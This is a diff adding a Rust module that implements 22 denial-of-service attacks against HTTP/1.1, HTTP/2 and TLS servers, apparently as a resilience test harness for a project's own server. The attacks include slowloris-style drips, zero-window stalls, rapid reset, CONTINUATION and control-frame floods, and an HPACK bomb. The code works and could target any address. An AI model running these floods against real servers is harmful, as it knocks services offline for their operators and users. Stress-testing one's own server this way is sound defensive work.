@@ -1,0 +1,187 @@
+//! What attackers do. Each goes on until it is told to stop, and begins again when the server has had enough of it.
+
+use crate::h2peer::*;
+use std::{
+    io::{ErrorKind, Read, Write},
+    net::{SocketAddr, TcpStream},
+    sync::atomic::{AtomicBool, Ordering},
+    thread,
+    time::Duration,
+};
+
+/// Attacks a server until `stop`.
+pub type Attack = fn(SocketAddr, &AtomicBool);
+
+/// The name, whether it is for TLS, and what is done.
+pub const ATTACKS: [(&str, bool, Attack); 22] = [
+    ("nothing", false, |_, stop| {
+        while !stop.load(Ordering::SeqCst) {
+            pause()
+        }
+    }),
+    ("connections that say nothing", false, |address, stop| drip(address, stop, 500, |_| Vec::new(), &[])),
+    ("heads that drip", false, |address, stop| {
+        drip(address, stop, 300, |_| b"GET / HTTP/1.1\r\nHost: x\r\nA: ".to_vec(), b"a");
+    }),
+    ("HTTP/2 heads that drip", false, |address, stop| {
+        let head = Frame::new(HEADERS, 0, 1, []);
+        let more = Frame::new(9, 0, 1, []).bytes();
+        drip(address, stop, 300, move |_| opening(&[], std::slice::from_ref(&head)), &more);
+    }),
+    ("TLS handshakes that stall", true, |address, stop| {
+        drip(address, stop, 300, |_| b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(), b"a");
+    }),
+    ("uploads that drip", false, |address, stop| {
+        drip(
+            address,
+            stop,
+            400,
+            |_| b"POST /read HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n".to_vec(),
+            b"a",
+        );
+    }),
+    ("HTTP/2 uploads that drip, 10 x 32", false, |address, stop| {
+        let begin: Vec<_> = (0..32).map(|n| request(2 * n + 1, 0, "POST", "/read")).collect();
+        let more: Vec<_> = (0..32).map(|n| Frame::data(2 * n + 1, b"a")).collect();
+        drip(address, stop, 10, move |_| opening(&[], &begin), &concat(&more));
+    }),
+    ("HTTP/2 uploads that drip, 100 x 100", false, |address, stop| {
+        let begin: Vec<_> = (0..100).map(|n| request(2 * n + 1, 0, "POST", "/read")).collect();
+        drip(address, stop, 100, move |_| opening(&[], &begin), &Frame::data(1, b"a").bytes());
+    }),
+    ("readers that stall", false, |address, stop| {
+        let ask = |n: usize| {
+            let path = if n % 2 == 0 { "/large" } else { "/stream" };
+            format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
+        };
+        drip(address, stop, 64, ask, &[]);
+    }),
+    ("windows that stay shut", false, |address, stop| {
+        let ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, if n % 2 == 0 { "/large" } else { "/stream" })).collect();
+        drip(address, stop, 10, move |_| opening(&[(INITIAL_WINDOW_SIZE, 0)], &ask), &[]);
+    }),
+    ("windows that open byte by byte", false, |address, stop| {
+        let ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, "/large")).collect();
+        let more: Vec<_> = (0..100).map(|n| Frame::window_update(2 * n + 1, 1)).collect();
+        drip(address, stop, 10, move |_| opening(&[(INITIAL_WINDOW_SIZE, 0)], &ask), &concat(&more));
+    }),
+    ("requests without an end to reading", false, |address, stop| {
+        flood(address, stop, &[], |_| b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(100));
+    }),
+    ("connections that come and go", false, |address, stop| {
+        while !stop.load(Ordering::SeqCst) {
+            drop(TcpStream::connect(address));
+        }
+    }),
+    ("rapid reset", false, |address, stop| {
+        frames(address, stop, |n| vec![get(2 * n + 1, "/"), Frame::reset(2 * n + 1, CANCEL)])
+    }),
+    ("made to reset", false, |address, stop| {
+        frames(address, stop, |n| vec![request(2 * n + 1, 0, "POST", "/read"), Frame::window_update(2 * n + 1, 0)]);
+    }),
+    ("PING", false, |address, stop| frames(address, stop, |n| vec![Frame::ping(u64::from(n).to_be_bytes())])),
+    ("SETTINGS", false, |address, stop| frames(address, stop, |_| vec![Frame::settings(&[])])),
+    ("PRIORITY", false, |address, stop| {
+        frames(address, stop, |n| vec![Frame::new(PRIORITY, 0, 2 * n + 1, [0, 0, 0, 0, 1])])
+    }),
+    ("empty DATA", false, |address, stop| {
+        frames(address, stop, |n| vec![if n == 0 { request(1, 0, "POST", "/read") } else { Frame::data(1, b"") }]);
+    }),
+    ("CONTINUATION", false, |address, stop| {
+        frames(address, stop, |n| {
+            vec![if n == 0 { Frame::new(HEADERS, 0, 1, []) } else { Frame::new(9, 0, 1, [0; 10]) }]
+        });
+    }),
+    ("WINDOW_UPDATE", false, |address, stop| frames(address, stop, |_| vec![Frame::window_update(0, 1)])),
+    ("HPACK bomb", false, |address, stop| frames(address, stop, bomb)),
+];
+
+/// How long an attacker that drips waits between two drops.
+fn pause() {
+    thread::sleep(Duration::from_millis(20));
+}
+
+fn request(stream: u32, flags: u8, method: &str, path: &str) -> Frame {
+    let fields = [(":method", method), (":scheme", "http"), (":authority", "x"), (":path", path)];
+    Frame::headers(stream, flags, &fields)
+}
+
+fn get(stream: u32, path: &str) -> Frame {
+    request(stream, END_STREAM, "GET", path)
+}
+
+/// A request whose head is put into the table with a value of 4000 bytes, and one that names it thousands of times.
+fn bomb(n: u32) -> Vec<Frame> {
+    let mut block = vec![0x82, 0x86, 0x84, 0x41, 1, b'x'];
+    if n == 0 {
+        // A literal with a new name, indexed: its length is 127 and 3873 more.
+        block.extend([0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
+        block.extend([b'b'; 4000]);
+    } else {
+        block.extend([0xbe; 16_000]);
+    }
+    vec![Frame::new(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block)]
+}
+
+/// The beginning of a connection, and some frames.
+fn opening(settings: &[(u16, u32)], frames: &[Frame]) -> Vec<u8> {
+    [PREFACE, &Frame::settings(settings).bytes(), &Frame::settings_ack().bytes(), &concat(frames)].concat()
+}
+
+/// Keeps so many connections open, each with its beginning, and adds a drop to every one of them now and then.
+fn drip(address: SocketAddr, stop: &AtomicBool, connections: usize, begin: impl Fn(usize) -> Vec<u8>, drop: &[u8]) {
+    let mut sockets: Vec<Option<TcpStream>> = Vec::new();
+    while !stop.load(Ordering::SeqCst) {
+        if sockets.len() < connections {
+            sockets.resize_with(connections, || None);
+        }
+        for (n, place) in sockets.iter_mut().enumerate() {
+            if stop.load(Ordering::SeqCst) {
+                return;
+            }
+            let sent = match place {
+                Some(socket) => drop.is_empty() || socket.write_all(drop).is_ok(),
+                None => {
+                    let Ok(mut socket) = TcpStream::connect_timeout(&address, Duration::from_secs(1)) else { continue };
+                    let sent = socket.write_all(&begin(n)).is_ok();
+                    *place = Some(socket);
+                    sent
+                }
+            };
+            if !sent {
+                *place = None;
+            }
+        }
+        pause();
+    }
+}
+
+/// Sends frames in bursts as fast as they are taken.
+fn frames(address: SocketAddr, stop: &AtomicBool, burst: impl Fn(u32) -> Vec<Frame>) {
+    flood(address, stop, &opening(&[], &[]), |n| {
+        (n * 10..n * 10 + 10).flat_map(&burst).flat_map(|frame| frame.bytes()).collect()
+    });
+}
+
+/// Sends bursts as fast as they are taken, reading what is there, and begins again when the server has closed the connection.
+fn flood(address: SocketAddr, stop: &AtomicBool, begin: &[u8], burst: impl Fn(u32) -> Vec<u8>) {
+    while !stop.load(Ordering::SeqCst) {
+        let Ok(mut socket) = TcpStream::connect(address) else { continue };
+        let _ = socket.set_write_timeout(Some(Duration::from_millis(50)));
+        let mut sent = socket.write_all(begin).is_ok();
+        let mut n = 0;
+        while sent && !stop.load(Ordering::SeqCst) {
+            sent = match socket.write_all(&burst(n)) {
+                Ok(()) => true,
+                // The server does not read on until we do, which is not what we came for.
+                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
+                    let _ = socket.set_read_timeout(Some(Duration::from_millis(1)));
+                    let _ = socket.read(&mut [0; 4096]);
+                    false
+                }
+                Err(_) => false,
+            };
+            n += 1;
+        }
+    }
+}
